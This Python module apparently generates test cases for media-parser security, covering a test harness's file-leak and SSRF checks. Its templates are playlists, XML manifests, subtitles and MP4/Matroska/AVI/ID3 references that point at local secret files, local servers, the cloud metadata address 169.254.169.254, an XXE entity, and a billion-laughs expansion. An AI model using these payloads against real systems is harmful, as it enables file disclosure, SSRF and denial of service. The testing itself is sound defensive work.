"""Files that name other files, or servers: playlists, scripts, references, in disguise and as parts of good files."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from functools import partial
from pathlib import Path

from hostile.bombs import element, matroska, pcm_track
from hostile.boxes import mp4
from hostile.case import Case, Place, content, run_ffmpeg

_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_FORMS = {
    "hls": "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{target}\n#EXT-X-ENDLIST\n",
    "hls master": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{target}\n",
    "hls key": '#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI="{target}"\n#EXTINF:10,\n'
    "{target}\n#EXT-X-ENDLIST\n",
    "hls map": '#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MAP:URI="{target}"\n#EXTINF:10,\n{target}\n#EXT-X-ENDLIST\n',
    "hls subtitles": '#EXTM3U\n#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="s",NAME="s",URI="{target}"\n'
    '#EXT-X-STREAM-INF:BANDWIDTH=1,SUBTITLES="s"\n{target}\n',
    "concat": "ffconcat version 1.0\nfile '{target}'\n",
    "concat with options": "ffconcat version 1.0\nfile {target}\noption protocol_whitelist file,http,tcp\n",
    "dash": f'{_XML}<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S"><Period>'
    '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{target}</BaseURL>'
    "</Representation></AdaptationSet></Period></MPD>",
    "dash with an entity": f'{_XML}<!DOCTYPE x [<!ENTITY e SYSTEM "{{target}}">]><MPD><Period>&e;</Period></MPD>',
    "dash that laughs": f"{_XML}<!DOCTYPE x ["
    + "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    + '<!ENTITY l0 "{target}">]><MPD>&l9;</MPD>',
    "imf": f'{_XML}<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">{{target}}'
    "</CompositionPlaylist>",
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns={target}\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
    "a=rtpmap:96 H264/90000\n",
    "asx": '<asx version="3.0"><entry><ref href="{target}"/></entry></asx>',
    "m3u": "#EXTM3U\n{target}\n",
    "pls": "[playlist]\nFile1={target}\nNumberOfEntries=1\n",
    "rtsp": "rtsptext\r\n{target}",
    "redir": "[Reference]\r\nRef1={target}\r\n",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="{target}"/></svg>',
    "metadata": ";FFMETADATA1\ntitle={target}\n",
    "avisynth": 'DirectShowSource("{target}")\n',
    "vapoursynth": 'import vapoursynth\nvapoursynth.core.ffms2.Source("{target}").set_output()\n',
    "subtitles": "1\n00:00:00,000 --> 00:00:10,000\n<img src='{target}'>\n",
    "ass": "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {target}\n[Events]\n"
    "Dialogue: 0,0:00:00.00,0:00:10.00,,,0,0,0,,{target}\n",
    "vobsub": "# VobSub index file, v7\nid: en, index: 0\nfilepos: 0\n# {target}\n",
    "smil": '<smil><body><video src="{target}"/></body></smil>',
    "webloc": "[InternetShortcut]\nURL={target}\n",
    "lavfi": "movie={target}",
    "image list": "{target}\n{target}\n",
    "html": '<html><video src="{target}"></html>',
}
_TARGETS = {
    "the secret": "{secret}",
    "the secret by file:": "file:{secret}",
    "the secret by file://": "file://{secret}",
    "the server": "http://127.0.0.1:{port}/x.ts",
    "the server by hls+http": "hls+http://127.0.0.1:{port}/x.m3u8",
    "the server by tcp": "tcp://127.0.0.1:{port}",
    "the server by udp": "udp://127.0.0.1:{port}",
    "the server by rtmp": "rtmp://127.0.0.1:{port}/x",
    "a name": "http://canary.invalid/x.ts",
    "the metadata of a cloud": "http://169.254.169.254/latest/meta-data/",
    "subfile": "subfile,,start,0,end,90,,:{secret}",
    "concat": "concat:{secret}|{secret}",
    "crypto": "crypto+file:{secret}",
    "cache": "cache:file:{secret}",
    "async": "async:file:{secret}",
    "data": "data:video/mp4;base64,AAAAGGZ0eXBtcDQyAAAAAA==",
    "tee": "tee:{secret}",
    "gopher": "gopher://127.0.0.1:{port}/x",
    "a share": "//127.0.0.1/share/x.ts",
    "a path that climbs": "../secret/secret.txt",
    "a pipe": "pipe:0",
    "a descriptor": "fd:0",
    "unix": "unix:{secret}",
}


def _filled(form: str, target: str, place: Place) -> bytes:
    url = _TARGETS[target].format(secret=place.secret, port=place.port)
    return _FORMS[form].replace("{target}", url).encode()


def playlists() -> Iterator[Case]:
    """Every form with some targets, and every target with some forms; and references within real containers."""
    for number, form in enumerate(_FORMS):
        for other, target in enumerate(_TARGETS):
            if other < 5 or number < 2 or (number + other) % 4 == 0:
                suffix = ("mp4", "m3u8", "ts", "mov", "avi")[(number + other) % 5]
                yield content("playlists", f"{form} to {target}", suffix, partial(_filled, form, target))
    for target in _TARGETS:
        for kind in (b"alis", b"url ", b"rsrc"):
            data = partial(_reference, kind, target)
            yield content("references", f"MP4 whose data is in {target} by {kind.decode()}", "mov", data)
        yield content("references", f"MP4 whose movie is {target}", "mov", partial(_reference_movie, target))
        yield content("references", f"Matroska that goes on in {target}", "mkv", partial(_linked, target))
        yield content("references", f"AVI after a playlist of {target}", "avi", partial(_gab2, target))
        yield content("references", f"a tag of a picture at {target}", "mp3", partial(_picture_link, target))
    for form in ("hls", "concat", "dash", "subtitles", "ass"):
        yield Case("references", f"{form} attached to Matroska", partial(_attached, form), scored=True)
    for suffix in ("ts", "mp4", "mkv", "wav"):
        yield content("references", f"a playlist before {suffix}", suffix, partial(_mixed, suffix, True))
        yield content("references", f"a playlist behind {suffix}", suffix, partial(_mixed, suffix, False))


def _url(target: str, place: Place) -> bytes:
    return _TARGETS[target].format(secret=place.secret, port=place.port).encode()


def _reference(kind: bytes, target: str, place: Place) -> bytes:
    """The data reference of both tracks, not self-contained any more; the boxes around it grow."""
    data, url = place.seed("seed.mp4"), _url(target, place)
    alias = (
        bytes(10)
        + bytes(140)
        + struct.pack(">HH", 2, len(url))
        + url
        + bytes(len(url) % 2)
        + struct.pack(">HH", 65535, 0)
    )
    inside = bytes(4) + (alias if kind == b"alis" else url + b"\0")
    entry = struct.pack(">I", 8 + len(inside)) + kind + inside
    for number in (1, 0):
        found = list(mp4(data))
        dref = [part for part in found if part.kind == b"dref"][number]
        whole = struct.pack(">I", 16 + len(entry)) + b"dref" + struct.pack(">II", 0, 1) + entry
        growth = len(whole) - (dref.end - dref.start)
        out = bytearray(data[: dref.start] + whole + data[dref.end :])
        for part in found:
            if part.start < dref.start and part.end >= dref.end:
                out[part.start : part.start + 4] = struct.pack(">I", part.end - part.start + growth)
        data = bytes(out)
    return data


def _reference_movie(target: str, place: Place) -> bytes:
    def box(kind: bytes, inside: bytes) -> bytes:
        return struct.pack(">I", 8 + len(inside)) + kind + inside

    url = _url(target, place) + b"\0"
    reference = box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(url)) + url)
    return box(b"ftyp", b"qt  " + bytes(4) + b"qt  ") + box(b"moov", box(b"rmra", box(b"rmda", reference)))


def _linked(target: str, place: Place) -> bytes:
    """Matroska's names of the file before and the file after; a codec that lies at an address."""
    names = element(0x3C83AB, _url(target, place)) + element(0x3E83BB, _url(target, place))
    track = pcm_track(1).replace(b"A_PCM/INT/LIT", b"A_QUICKTIME\0\0")
    address = element(0x3B4040, _url(target, place)) + element(0x26B240, _url(target, place))
    return matroska(track + address, element(0x1549A966, names))


def _gab2(target: str, place: Place) -> bytes:
    """A chunk of AVI whose subtitles are a playlist: ffmpeg guesses their format (CVE-2016-1897 and its kin)."""
    data, text = place.seed("seed.avi"), _filled("hls", target, place)
    gab2 = b"GAB2\0\2\0" + struct.pack("<I", 2) + b"x\0" + b"\4\0" + struct.pack("<I", len(text)) + text
    header = data.replace(b"auds", b"txts").replace(b"01wb", b"01tx")
    at = header.index(b"movi") + 4
    return header[:at] + b"01tx" + struct.pack("<I", len(gab2)) + gab2 + bytes(len(gab2) % 2) + header[at:]


def _picture_link(target: str, place: Place) -> bytes:
    """ID3's way to say that the cover is at an address."""
    inside = b"\0-->\0\3\0" + _url(target, place)
    frame = b"APIC" + struct.pack(">I", len(inside)) + b"\0\0" + inside
    size = bytes((len(frame) >> 7 * n) & 127 for n in (3, 2, 1, 0))
    return b"ID3\3\0\0" + size + frame + place.seed("seed.mp3")


def _attached(form: str, place: Place) -> Path:
    """A good film, with a playlist for an attachment."""
    attachment = place.folder / "attachment"
    attachment.write_bytes(_filled(form, "the server", place))
    options = [
        "-i",
        place.seeds / "seed.mkv",
        "-c",
        "copy",
        "-attach",
        attachment,
        "-metadata:s:t",
        "mimetype=text/x-ssa",
    ]
    out = run_ffmpeg(options, place.folder / "case.mkv")
    attachment.unlink()
    return out


def _mixed(suffix: str, before: bool, place: Place) -> bytes:
    text, data = _filled("hls", "the server", place), place.seed(f"seed.{suffix}")
    return text + data if before else data + text
